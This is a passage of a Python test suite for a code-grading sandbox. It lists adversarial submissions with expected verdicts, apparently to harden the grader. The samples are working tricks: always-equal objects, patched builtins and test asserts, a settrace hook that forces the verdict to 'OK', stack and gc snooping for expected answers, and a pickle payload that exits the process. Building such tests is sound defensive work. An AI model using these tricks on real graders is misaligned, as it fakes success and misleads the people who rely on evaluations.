        "close every descriptor",
        "import os\ndef f(x):\n    os.closerange(0, 64)\n    return x * x + 1",
        "OK",
        "EARLY_EXIT",
        "BAD_RESULT",
    ),
    _fraud(
        "F10",
        "an object that equals everything",
        "class Yes:\n    def __eq__(self, o): return True\n    def __ne__(self, o): return False\n    __hash__ = None\ndef f(x):\n    return Yes()",
        "OK",
    ),
    _fraud(
        "F11",
        "an int that equals everything",
        "class Int(int):\n    def __eq__(self, o): return True\n    def __ne__(self, o): return False\n    __hash__ = int.__hash__\ndef f(x):\n    return Int(0)",
        "OK",
    ),
    _fraud(
        "F11b",
        "a list that equals everything",
        "class L(list):\n    def __eq__(self, o): return True\ndef f(x):\n    return L()",
        "OK",
    ),
    _fraud(
        "F11c",
        "a string that equals everything",
        "class S(str):\n    def __eq__(self, o): return True\n    __hash__ = str.__hash__\ndef f(x):\n    return S()",
        "OK",
    ),
    _fraud(
        "F12",
        "an array with a lying comparison",
        "import numpy as np\nclass A(np.ndarray):\n    def __eq__(self, o): return np.True_\n    def all(self, *a, **k): return True\ndef f(x):\n    return np.zeros(1).view(A)",
        "OK",
    ),
    _fraud(
        "F12b",
        "an object array with lying items",
        "import numpy as np\nclass Yes:\n    def __eq__(self, o): return True\ndef f(x):\n    a = np.empty(1, dtype=object)\n    a[0] = Yes()\n    return a",
        "OK",
    ),
    _fraud(
        "F13",
        "patch the built-ins",
        "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.all = lambda *a: True\nbuiltins.len = lambda *a: 1\nbuiltins.type = lambda *a: int\ndef f(x):\n    return None",
        "OK",
        "ERROR",
        "EARLY_EXIT",
        "BAD_RESULT",
    ),
    _fraud(
        "F14",
        "patch the test libraries",
        "import unittest, math, numpy.testing as t\nmath.isclose = lambda *a, **k: True\nt.assert_allclose = lambda *a, **k: None\nunittest.TestCase.assertEqual = lambda *a: None\ndef f(x):\n    return None",
        "OK",
    ),
    _fraud(
        "F15",
        "patch the encoder",
        "import json, os, sys\n"
        'json.dumps = lambda *a, **k: \'{"value": true, "i": 0}\'\n'
        "real = os.write\n"
        "os.write = lambda fd, data: real(fd, data)\n"
        "for name, module in list(sys.modules.items()):\n"
        "    if name.startswith('sandbox') and hasattr(module, 'encode'):\n"
        "        module.encode = lambda *a, **k: True\n"
        "def f(x):\n"
        "    return None",
        "OK",
        "ERROR",
        "BAD_RESULT",
        "EARLY_EXIT",
    ),
    _fraud(
        "F16",
        "look for the expected values",
        "import gc, sys\n"
        "def f(x):\n"
        "    found = []\n"
        "    frame = sys._getframe()\n"
        "    while frame:\n"
        "        for name, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):\n"
        "            if name in ('expected', 'output', 'outputs', 'gt_out', 'results', 'answer') and type(value) in (int, list, dict):\n"
        "                found.append(value)\n"
        "        frame = frame.f_back\n"
        "    for thing in gc.get_objects():\n"
        "        if type(thing) is dict and 'output' in thing and 'input' in thing:\n"
        "            found.append(thing['output'])\n"
        "    return found[0] if found else None",
        "OK",
        "ERROR",
    ),
    _assault(
        "F17",
        "search its memory for other requests",
        "import gc\n"
        "marker = 'previous-' + str(len('xxxx')) + '-request'\n"
        "if facts['round'] == 0:\n"
        "    globals()['planted'] = [[marker + ''] for _ in range(10000)]\n"
        "    sys.modules['json'].planted = ['previous-4-request'.upper().lower()] * 3\n"
        "    return reached\n"
        "for thing in gc.get_objects():\n"
        "    if type(thing) is list and len(thing) < 100:\n"
        "        reached += [s for s in thing if type(s) is str and s == marker and s is not marker]\n"
        "if hasattr(sys.modules['json'], 'planted'):\n"
        "    reached.append('a module was changed')",
        "OK",
        twice=True,
    ),
    _fraud(
        "F18",
        "a value that runs code when unpickled",
        "class Bomb:\n    def __reduce__(self):\n        import os\n        return os._exit, (0,)\ndef f(x):\n    return Bomb()",
        "OK",
    ),
    _fraud(
        "F19",
        "an object with hostile methods",
        "class Meta(type):\n"
        "    @property\n"
        "    def __name__(cls):\n"
        "        while True:\n"
        "            pass\n"
        "class H(metaclass=Meta):\n"
        "    def __repr__(self):\n        while True: pass\n"
        "    __str__ = __len__ = __iter__ = __hash__ = __bool__ = __repr__\n"
        "    @property\n"
        "    def __class__(self):\n        while True: pass\n"
        "    def __getattr__(self, name):\n        while True: pass\n"
        "def f(x):\n"
        "    return H()",
        "OK",
    ),
    _fraud(
        "F20",
        "an endless iterator as the result",
        "import itertools\ndef f(x):\n    return itertools.count()",
        "OK",
    ),
    _fraud(
        "F20b", "a generator as the result", "def f(x):\n    while True:\n        yield x * x", "OK"
    ),
    _fraud("F21", "a float for an int", "def f(x):\n    return float(x * x)", "OK"),
    _fraud("F21b", "True for 1", "def f(x):\n    return x == x", "OK"),
    _fraud(
        "F21c", "[True] for [1]: a list around the answer", "def f(x):\n    return [x * x]", "OK"
    ),
    _fraud("F22", "NaN and -0.0", "def f(x):\n    return float('nan') if x else -0.0", "OK"),
    _fraud(
        "F23", "answers learned by heart", "def f(x):\n    return {1: 1, 2: 4, 3: 9}.get(x)", "OK"
    ),
    Attack(
        "F24",
        "change the arguments, solve the task",
        "def f(x):\n    y = x * x\n    x = None\n    return y\n",
        ("OK",),
        "pass",
    ),
    Attack(
        "F25",
        "fool clocks and seeds, solve the task",
        "import time, random\ntime.time = time.monotonic = time.perf_counter = lambda: 0.0\nrandom.seed(0)\n"
        + _SOLVE,
        ("OK",),
        "pass",
    ),
    Attack(
        "F26",
        "hostile bytes on stdout, solve the task",
        "import os\nos.write(1, b'\\xff\\xfe\\x00\\x1b[2J\\xe2\\x80\\xae\\r\\n')\nos.write(2, bytes(range(256)))\n"
        + _SOLVE,
        ("OK",),
        "pass",
    ),
    _fraud(
        "F27",
        "lone surrogates in the result",
        "def f(x):\n    return '\\ud800' * 10",
        "OK",
        "ERROR",
        "BAD_RESULT",
    ),
    Attack("F28", "NUL in the source", "x = '\0'\n" + _SOLVE, ("ERROR",), "not pass"),
    Attack(
        "F28b",
        "a wrong coding cookie",
        "# -*- coding: klingon -*-\n" + _SOLVE,
        ("OK",),
        "pass",
    ),
    Attack(
        "F28c",
        "10 MB of source",
        "# " + "x" * (10 << 20) + "\n" + _SOLVE,
        ("OK",),
        "pass",
    ),
    Attack(
        "F28d", "lone surrogates in the source", "x = '\ud800'\n" + _SOLVE, ("ERROR",), "not pass"
    ),
    _fraud(
        "F29",
        "hooks everywhere",
        "import sys, warnings, faulthandler, threading, gc\n"
        "warnings.simplefilter('error')\n"
        "faulthandler.enable()\n"
        "sys.excepthook = lambda *a: print('PASSED')\n"
        "def tracer(frame, event, arg):\n"
        "    if 'verdict' in frame.f_locals:\n        frame.f_locals['verdict'] = 'OK'\n"
        "    return tracer\n"
        "sys.settrace(tracer)\n"
        "sys.setprofile(lambda *a: None)\n"
        "gc.callbacks.append(lambda *a: None)\n"
        "def f(x):\n"
        "    return None",
        "OK",
        "ERROR",
    ),
    Attack("F30", "an honest solution", _SOLVE, ("OK",), "pass"),
)

CONTROLS = (
    _assault("C01", "csv", "import csv, io\nrows = list(csv.reader(io.StringIO('a,b\\n1,2\\n')))\nif rows != [['a', 'b'], ['1', '2']]:\n    reached.append(rows)"),
    _assault("C02", "sqlite3", "import sqlite3\ndb = sqlite3.connect('x.db')\ndb.execute('create table t (a)')\ndb.execute('insert into t values (7)')\ndb.commit()\nif db.execute('select a from t').fetchone() != (7,):\n    reached.append('wrong')"),
    _assault("C03", "asyncio", "import asyncio\nasync def g():\n    await asyncio.sleep(0.01)\n    return await asyncio.to_thread(lambda: 5)\nif asyncio.run(g()) != 5:\n    reached.append('wrong')"),
    _assault("C04", "threads", "from concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor(8) as pool:\n    if sum(pool.map(abs, range(-5, 5))) != 25:\n        reached.append('wrong')"),
    _assault("C05", "linear algebra", "import numpy as np\na = np.random.rand(120, 80)\nu, s, v = np.linalg.svd(a, full_matrices=False)\nif not np.allclose(u * s @ v, a):\n    reached.append('wrong')"),
    _assault("C06", "memory map", "import numpy as np\nm = np.memmap('m.dat', dtype='int64', mode='w+', shape=(1000,))\nm[:] = 3\nm.flush()\nif np.fromfile('m.dat', dtype='int64').sum() != 3000:\n    reached.append('wrong')"),
    _assault("C07", "time zones", "import zoneinfo, datetime\nt = datetime.datetime(2024, 7, 1, 12, tzinfo=zoneinfo.ZoneInfo('Europe/Berlin'))\nif t.utcoffset().total_seconds() != 7200:\n    reached.append('wrong')"),
    _assault("C08", "temporary files and archives", "import tempfile, zipfile, shutil, pathlib\nwith tempfile.TemporaryDirectory() as d:\n    p = pathlib.Path(d) / 'a.txt'\n    p.write_text('hello')\n    shutil.copy2(p, p.with_suffix('.bak'))\n    with zipfile.ZipFile(pathlib.Path(d) / 'z.zip', 'w') as z:\n        z.write(p, 'a.txt')\n    with zipfile.ZipFile(pathlib.Path(d) / 'z.zip') as z:\n        if z.read('a.txt') != b'hello':\n            reached.append('wrong')"),
    _assault("C09", "csv through pandas", "import pandas as pd\nframe = pd.DataFrame({'k': list('abab'), 'v': range(4), 't': pd.date_range('2024-01-01', periods=4)})\nframe.to_csv('x.csv', index=False)\nback = pd.read_csv('x.csv', parse_dates=['t'])\nif back.groupby('k')['v'].sum().tolist() != [2, 4] or str(back['t'].dt.month.iloc[0]) != '1':\n    reached.append('wrong')"),
    _assault("C10", "secrets, hashes, uuid", "import secrets, hashlib, uuid\nif len(secrets.token_bytes(8)) != 8 or len(uuid.uuid4().hex) != 32 or not hashlib.sha256(b'x').hexdigest():\n    reached.append('wrong')"),
    _assault("C11", "dataclasses, typing, pickling of own classes", "import pickle\nfrom dataclasses import dataclass\nglobals()['dataclass'] = dataclass\nexec('@dataclass\\nclass P:\\n    x: int\\n', globals())\nif pickle.loads(pickle.dumps(globals()['P'](3))).x != 3:\n    reached.append('wrong')"),
)  # fmt: skip

ATTACKS = (*RESOURCES, *PROCESSES, *SECRETS, *NETWORK, *KERNEL, *FRAUDS, *CONTROLS)

TASK_INPUTS = (4, 7, 1)
"""Inputs of the task that frauds pretend to solve; 1 is there for `True`."""
